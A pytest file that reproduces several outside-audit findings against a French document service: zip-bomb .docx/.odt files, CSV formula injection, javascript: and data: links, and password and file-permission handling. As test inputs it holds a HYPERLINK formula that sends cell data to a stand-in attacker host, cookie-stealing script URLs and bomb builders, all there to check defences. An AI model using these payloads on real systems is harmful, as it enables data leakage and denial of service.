"""Findings 5, 9, 10 and 11 of the outside security audit (issue 15): files, exports and
secrets, reproduced as an attacker would do them, with real files, the real CLI
(CliRunner) and a real ``socle serve`` app on loopback (tests/service_helpers.py).

Set-up of the service tests: collections ``demo`` and ``secret``; ``bob`` edits demo,
``alice`` reads demo, ``eve`` reads secret, ``admin`` administers."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import stat
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from tests.service_helpers import PASSWORD, Env, auth, login, make_env, running_server

from socle.cli import cli

QUESTION = '=HYPERLINK("https://attaquant.example/?fuite="&A2&B2;"Erreur : cliquez ici")'


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The usual umask, whatever the test runner's: files are 0644 unless Socle says otherwise."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def wait_for_job(
    http: httpx.Client, sent: httpx.Response, headers: dict[str, str], limit: float = 60
) -> dict[str, Any]:
    """The upload's job once finished, or as it stands after ``limit`` seconds (polled
    gently: the API allows 120 requests a minute)."""
    assert sent.status_code == 202, sent.text
    deadline = time.monotonic() + limit
    while True:
        response = http.get(sent.json()["status_url"], headers=headers)
        assert response.status_code == 200, response.text
        job: dict[str, Any] = response.json()
        if job["status"] in ("done", "failed") or time.monotonic() > deadline:
            return job
        time.sleep(0.6)


# -- real documents, real bombs ------------------------------------------------------------------
def _docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Règlement de la médiathèque", level=1)
    document.add_paragraph("La médiathèque municipale est ouverte du mardi au samedi, de 10 h à 18 h.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _odt_bytes() -> bytes:
    from odf.opendocument import OpenDocumentText
    from odf.text import H, P

    document = OpenDocumentText()
    document.text.addElement(H(outlinelevel=1, text="Piscine municipale"))
    document.text.addElement(P(text="La piscine est fermée pour vidange du 1er au 15 septembre."))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _with_body(package: bytes, part: str, marker: str, body: str, extra: int = 0) -> bytes:
    """``package`` (a real .docx or .odt) with ``body`` inserted after ``marker`` in ``part``,
    and ``extra`` more empty entries: what an attacker builds with zipfile."""
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == part:
                xml = data.decode("utf-8")
                at = xml.index(marker) + len(marker)
                data = (xml[:at] + body + xml[at:]).encode("utf-8")
            kind = zipfile.ZIP_STORED if info.filename == "mimetype" else zipfile.ZIP_DEFLATED
            target.writestr(info.filename, data, compress_type=kind, compresslevel=9)
        for i in range(extra):
            target.writestr(f"word/vide/{i}.xml", b"")
    return out.getvalue()


def docx_bomb(megabytes: float, paragraph: str = "<w:p><w:r><w:t>bombe</w:t></w:r></w:p>", extra: int = 0) -> bytes:
    """A real .docx whose document.xml holds ``megabytes`` of paragraphs."""
    body = paragraph * int(megabytes * 1_000_000 / len(paragraph))
    return _with_body(_docx_bytes(), "word/document.xml", "<w:body>", body, extra)


def odt_bomb(megabytes: float, paragraph: str = "<text:p>bombe</text:p>") -> bytes:
    """A real .odt whose content.xml holds ``megabytes`` of paragraphs."""
    body = paragraph * int(megabytes * 1_000_000 / len(paragraph))
    return _with_body(_odt_bytes(), "content.xml", "<office:text>", body)


def varied_paragraphs(megabytes: float, open_tag: str, close_tag: str) -> str:
    """Paragraphs of random words: they compress like real text (well under a ratio of 100)."""
    rng = random.Random(15)
    letters = "abcdefghijklmnopqrstuvwxyzéè"
    parts, size = [], 0
    while size < megabytes * 1_000_000:
        words = " ".join("".join(rng.choices(letters, k=rng.randint(2, 9))) for _ in range(5))
        parts.append(f"{open_tag}{words}{close_tag}")
        size += len(parts[-1])
    return "".join(parts)


# -- 5: decompression bombs -----------------------------------------------------------------------
def test_bombs_in_a_folder_are_refused_in_french_and_the_rest_is_ingested(tmp_path: Path, embedder) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "dossier"
    folder.mkdir()
    bomb = docx_bomb(4)  # the audit's: 4 MB of XML in a ~48 KB .docx (340 s of parsing before)
    assert len(bomb) < 60_000
    (folder / "bombe.docx").write_bytes(bomb)
    (folder / "bombe.odt").write_bytes(odt_bomb(4))
    (folder / "reglement.docx").write_bytes(_docx_bytes())
    (folder / "piscine.odt").write_bytes(_odt_bytes())
    start = time.monotonic()
    result = CliRunner().invoke(cli, ["--db", str(tmp_path / "socle.db"), "ingest", str(folder), "-c", "mairie"])
    elapsed = time.monotonic() - start
    assert result.exit_code == 0, result.output
    assert "2 ajouté(s)" in result.output and "2 en erreur" in result.output
    for name in ("bombe.docx", "bombe.odt"):
        line = next(line for line in result.output.splitlines() if name in line)
        assert "Ignoré" in line and "Bombe de décompression" in line and "SOCLE_ZIP_MAX_RATIO" in line, line
    assert elapsed < 60, elapsed  # parsing the bombs alone took minutes
    from socle.store import open_store

    keys = {d.key for d in open_store(tmp_path / "socle.db").documents("mairie")}
    assert {Path(k).name for k in keys} == {"reglement.docx", "piscine.odt"}


def test_a_bomb_uploaded_to_the_service_does_not_hold_the_ingestion_worker(env: Env, server: str) -> None:
    bob = auth(env.keys["bob"])  # an editor of demo, the audit's attacker
    files = [
        ("files", ("bombe.docx", docx_bomb(4), "application/octet-stream")),
        ("files", ("note.md", b"# Note\n\nLa salle C est fermee le jeudi.\n", "text/markdown")),
    ]
    with httpx.Client(base_url=server, timeout=60) as http:
        sent = http.post("/v1/documents", data={"collection": "demo"}, files=files, headers=bob)
        job = wait_for_job(http, sent, bob)
        assert job["status"] == "done", job  # before the fix: still parsing the bomb after a minute
        failed = job["report"]["failed"]
        assert [f["source"] for f in failed] == ["bombe.docx"]
        assert "Bombe de décompression" in failed[0]["message"]
        assert job["report"]["added"] == 1
        keys = [d["key"] for d in http.get("/v1/documents?collection=demo", headers=bob).json()]
        assert "note.md" in keys and "bombe.docx" not in keys


def test_each_archive_limit_with_its_setting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from socle.errors import ParseError
    from socle.parse import parse_path

    def refused(name: str, content: bytes) -> str:
        path = tmp_path / name
        path.write_bytes(content)
        with pytest.raises(ParseError) as caught:
            parse_path(path)
        return str(caught.value)

    # Entries: 10,001 empty entries in a real .docx (read from the zip's directory only).
    assert "SOCLE_ZIP_MAX_ENTRIES" in refused("entrees.docx", docx_bomb(0, extra=10_001))
    # Total size: 3 MB of text-like XML (a ratio of a few units) over a 2 MB limit.
    monkeypatch.setenv("SOCLE_ZIP_MAX_MB", "2")
    varied = _with_body(
        _docx_bytes(), "word/document.xml", "<w:body>", varied_paragraphs(3, "<w:p><w:r><w:t>", "</w:t></w:r></w:p>")
    )
    message = refused("gros.docx", varied)
    assert "une fois décompressé" in message and "SOCLE_ZIP_MAX_MB" in message
    # Every limit can be turned off, and a good file is not affected by them.
    monkeypatch.setenv("SOCLE_ZIP_MAX_MB", "0")
    monkeypatch.setenv("SOCLE_ZIP_MAX_RATIO", "0")
    (tmp_path / "varie.docx").write_bytes(varied)
    assert len(parse_path(tmp_path / "varie.docx")[0].blocks) > 1000
    monkeypatch.setenv("SOCLE_ZIP_MAX_RATIO", "beaucoup")
    from socle.errors import ConfigError

    with pytest.raises(ConfigError, match="SOCLE_ZIP_MAX_RATIO"):
        parse_path(tmp_path / "varie.docx")


def test_a_file_that_takes_too_long_is_interrupted_and_the_batch_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An .odt that passes the archive limits (text-like XML, 3 MB) but takes odfpy seconds:
    the per-file time limit stops it, and parsing goes on with the next file."""
    from socle.ingest import IngestReport, parse_files
    from socle.parse import parse_path

    folder = tmp_path / "dossier"
    folder.mkdir()
    slow = _with_body(_odt_bytes(), "content.xml", "<office:text>", varied_paragraphs(3, "<text:p>", "</text:p>"))
    (folder / "a-lent.odt").write_bytes(slow)
    (folder / "b-piscine.odt").write_bytes(_odt_bytes())
    monkeypatch.setenv("SOCLE_PARSE_TIMEOUT", "1")
    report = IngestReport()
    start = time.monotonic()
    documents = parse_files([folder], report)
    elapsed = time.monotonic() - start
    assert [Path(d.source).name for d in documents] == ["b-piscine.odt"]
    assert len(report.failed) == 1 and report.failed[0][0].endswith("a-lent.odt")
    assert "analyse interrompue au bout de 1 s" in report.failed[0][1] and "SOCLE_PARSE_TIMEOUT" in report.failed[0][1]
    assert elapsed < 10, elapsed
    # Nothing is left pending in this thread once the limit has struck.
    time.sleep(0.3)
    assert parse_path(folder / "b-piscine.odt")[0].title == "Piscine municipale"
    monkeypatch.setenv("SOCLE_PARSE_TIMEOUT", "0")  # no limit: the same file parses, slowly
    assert len(parse_path(folder / "a-lent.odt")[0].blocks) > 10_000


# -- 9: CSV formula injection ---------------------------------------------------------------------
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _check_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(FORMULA_STARTS), row
    return rows


def test_formulas_in_the_audit_are_exported_as_text_both_ways(env: Env, server: str, tmp_path: Path) -> None:
    alice = auth(env.keys["alice"])
    with httpx.Client(base_url=server, timeout=60) as http:
        chat = {"model": "demo", "messages": [{"role": "user", "content": QUESTION}]}
        assert http.post("/v1/chat/completions", json=chat, headers=alice).status_code == 200
        page = http.get("/connexion")  # a failed login under a name that is a formula, no secret
        token = page.text.split('name="csrf" value="')[1].split('"')[0]
        form = {"username": "-2-3", "password": "x", "csrf": token}
        assert http.post("/connexion", data=form, follow_redirects=False).status_code == 401
        api = http.get("/v1/audit", params={"format": "csv"}, headers=auth(env.keys["admin"]))
        assert api.status_code == 200
    cli_text = CliRunner().invoke(cli, ["--db", env.settings.db, "audit", "export", "--format", "csv"]).output
    output = tmp_path / "audit.csv"
    CliRunner().invoke(cli, ["--db", env.settings.db, "audit", "export", "--format", "csv", "-o", str(output)])
    for text in (api.text, cli_text, output.read_text(encoding="utf-8")):
        rows = _check_csv(text)
        asked = [r for r in rows if r["action"] == "ask"]
        assert (
            asked and asked[-1]["question"].startswith("'=HYPERLINK(") and "attaquant.example" in asked[-1]["question"]
        )
        assert "'-2-3" in [r["username"] for r in rows if r["action"] == "login_failed"]
        assert any(r["footprint"] for r in asked)  # other cells as they were
    assert stat.S_IMODE(output.stat().st_mode) == 0o600  # who asked what: for the operator only


def test_csv_neutralisation_is_cell_by_cell() -> None:
    from socle.service.csv_safe import neutralise, safe_csv_writer

    out = io.StringIO()
    safe_csv_writer(out).writerow(["=1+1", "+33 1 23", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", -2.5, 3, None, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'=1+1", "'+33 1 23", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "-2.5", "3", "", "ok"
    ]  # fmt: skip
    assert neutralise(-2.5) == -2.5


# -- 10: javascript: links from a document's metadata ---------------------------------------------
def test_only_http_and_relative_urls_become_links_on_the_document_page(env: Env, server: str) -> None:
    urls = {
        "piege": "javascript:alert(document.cookie)",
        "piege-casse": " JaVaScRiPt:alert(2)",
        "piege-tab": "java\tscript:alert(3)",
        "piege-data": "data:text/html,<script>alert(4)</script>",
        "piege-vb": "vbscript:msgbox(5)",
        "officiel": "https://www.service-public.fr/particuliers/vosdroits/F1234",
        "relatif": "/documents/demo?cle=officiel",
    }
    lines = [
        json.dumps({"id": key, "title": f"Fiche {key}", "text": "Le guichet unique ouvre le samedi matin.", "url": url})
        for key, url in urls.items()
    ]
    bob, alice = auth(env.keys["bob"]), auth(env.keys["alice"])
    with httpx.Client(base_url=server, timeout=60) as http:
        upload = [("files", ("fiches.jsonl", "\n".join(lines).encode(), "application/x-ndjson"))]
        # The editor plants the links; a reader (or an administrator) follows them.
        job = wait_for_job(
            http, http.post("/v1/documents", data={"collection": "demo"}, files=upload, headers=bob), bob
        )
        assert job["report"]["added"] == len(urls), job
        assert http.get("/v1/documents?collection=demo", headers=alice).status_code == 200
        login(http, "alice")
        pages = {key: http.get("/documents/demo", params={"cle": key}) for key in urls}
    for key, page in pages.items():
        assert page.status_code == 200, page.text
        html = page.text.lower().replace("&#9;", "\t")
        hrefs = [h.split('"')[0] for h in html.split('href="')[1:]]
        assert not any(h.replace("\t", "").strip().startswith(("javascript:", "data:", "vbscript:")) for h in hrefs), (
            key
        )
        if key.startswith("piege"):
            assert "page d'origine (adresse non cliquable)" in page.text  # shown as text, not lost
    assert 'href="https://www.service-public.fr/particuliers/vosdroits/F1234"' in pages["officiel"].text
    assert 'href="/documents/demo?cle=officiel"' in pages["relatif"].text


def test_safe_link() -> None:
    from socle.service.web import safe_link

    for bad in ("javascript:x", "\x00javascript:x", "jav\nascript:x", "JAVASCRIPT:x", "data:x", "file:///etc/passwd"):
        assert safe_link(bad) is None, bad
    for good in ("http://a.fr/", "HTTPS://a.fr/x?y=1:2", "/documents/x", "fiche.html#a:b", "?cle=a:b", "//a.fr/x"):
        assert safe_link(good) == good, good
    assert safe_link(None) is None and safe_link("   ") is None


# -- 11: secrets ----------------------------------------------------------------------------------
def test_users_add_and_passwd_never_echo_a_given_password(tmp_path: Path) -> None:
    from socle.service.auth import authenticate_password
    from socle.store import open_store

    db = str(tmp_path / "cli.db")
    runner = CliRunner()
    given = "Correct-Cheval-Agrafe-42"
    added = runner.invoke(cli, ["--db", db, "users", "add", "claire"], input=given + "\n")
    assert added.exit_code == 0, added.output
    assert given not in added.output and "créé" in added.output
    assert authenticate_password(open_store(db), "claire", given) is not None
    # --generate with a password on stdin: the given one is used, and still not shown.
    piped = runner.invoke(cli, ["--db", db, "users", "add", "denis", "--generate"], input=given + "\n")
    assert piped.exit_code == 0 and given not in piped.output
    changed = runner.invoke(cli, ["--db", db, "users", "passwd", "claire"], input="Nouveau-Secret-2025!\n")
    assert changed.exit_code == 0 and "Nouveau-Secret-2025!" not in changed.output
    assert authenticate_password(open_store(db), "claire", "Nouveau-Secret-2025!") is not None
    # A generated password is shown, once: the operator has no other way to learn it.
    generated = runner.invoke(cli, ["--db", db, "users", "add", "emile", "--generate"])
    shown = generated.output.split("Mot de passe : ")[1].strip()
    assert authenticate_password(open_store(db), "emile", shown) is not None
    reset = runner.invoke(cli, ["--db", db, "users", "passwd", "emile"])
    assert authenticate_password(open_store(db), "emile", reset.output.split("Mot de passe : ")[1].strip())


def test_a_password_typed_as_username_is_not_kept_in_the_audit(env: Env, server: str) -> None:
    secrets_typed = ["Tr0ub4dor&3-Zèbre!", "correct cheval agrafe batterie", "k7f9q2m4x8v1b3n6", "MotDePasse2025"]
    kept = ["jdupont", "alice", "jean.dupont@mairie.example"]  # no account, a real one, an e-mail
    with httpx.Client(base_url=server, timeout=60) as http:
        for username in [*secrets_typed, secrets_typed[0], *kept]:
            token = http.get("/connexion").text.split('name="csrf" value="')[1].split('"')[0]
            form = {"username": username, "password": "pas-le-bon", "csrf": token}
            assert http.post("/connexion", data=form, follow_redirects=False).status_code == 401
        login(http, "alice")  # a successful login keeps its name
        exported = http.get("/v1/audit", params={"format": "jsonl"}, headers=auth(env.keys["admin"])).text
    failed = [r["username"] for r in map(json.loads, exported.splitlines()) if r["action"] == "login_failed"]
    hashed = failed[: len(secrets_typed) + 1]
    assert all(h.startswith("inconnu:sha256:") and len(h) == len("inconnu:sha256:") + 10 for h in hashed), hashed
    assert hashed[0] == hashed[-1] and len(set(hashed)) == len(secrets_typed)  # the same attempt twice: told apart
    assert failed[len(hashed) :] == kept
    files = [Path(env.settings.db + suffix) for suffix in ("", "-wal", "-shm")]
    stored = b"".join(f.read_bytes() for f in files if f.exists())
    for secret in secrets_typed:
        assert secret not in exported and secret.encode() not in stored
    assert PASSWORD not in exported


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _others_can_read(path: Path, top: Path) -> bool:
    """Whether another local user can read ``path``: every folder from ``top`` down open
    to others (x), and the file readable by others (r)."""
    folders = [top, *[p for p in path.parents if top in p.parents]]
    return all(_mode(f) & stat.S_IXOTH for f in folders) and bool(_mode(path) & stat.S_IROTH)


def test_the_data_folder_and_database_are_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, umask_022: None
) -> None:
    from socle.store import open_store

    home = tmp_path / "nouveau" / "socle"
    monkeypatch.setenv("SOCLE_HOME", str(home))
    result = CliRunner().invoke(cli, ["users", "add", "admin", "--generate"])  # the default $SOCLE_HOME/socle.db
    assert result.exit_code == 0, result.output
    db = home / "socle.db"
    assert _mode(home) == 0o700 and _mode(db) == 0o600
    store = open_store(db)
    store.append_audit({"username": "cli:test", "action": "test"})
    for f in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):  # SQLite gives them the database's mode
        assert f.exists() and _mode(f) == 0o600, f
    elsewhere = open_store(tmp_path / "ailleurs" / "base.db")  # SOCLE_DB in a folder of its own
    elsewhere.append_audit({"username": "cli:test", "action": "test"})
    assert _mode(tmp_path / "ailleurs") == 0o700 and _mode(tmp_path / "ailleurs" / "base.db") == 0o600
    existing = tmp_path / "existant"
    existing.mkdir(mode=0o750)
    open_store(existing / "base.db")
    assert _mode(existing) == 0o750  # a folder the operator made keeps its mode


def test_uploaded_files_are_out_of_other_users_reach(
    tmp_path: Path, demo_store: Any, embedder: Any, umask_022: None
) -> None:
    from socle.config import home_dir

    env = make_env(tmp_path, demo_store, embedder)
    with running_server(env.app) as server, httpx.Client(base_url=server, timeout=60) as http:
        bob = auth(env.keys["bob"])
        files = [("files", ("note.md", b"# Note\n\nLe parking est ferme en aout.\n", "text/markdown"))]
        sent = http.post("/v1/documents", data={"collection": "demo"}, files=files, headers=bob)
        assert wait_for_job(http, sent, bob)["report"]["added"] == 1
    home = home_dir()
    uploaded = env.service.uploads / "demo" / "note.md"
    assert uploaded.exists() and home in uploaded.parents
    assert _mode(home) == 0o700
    assert not _others_can_read(uploaded, home)
    assert _mode(uploaded) == 0o600 and _mode(uploaded.parent) == 0o700  # even if the home were opened up
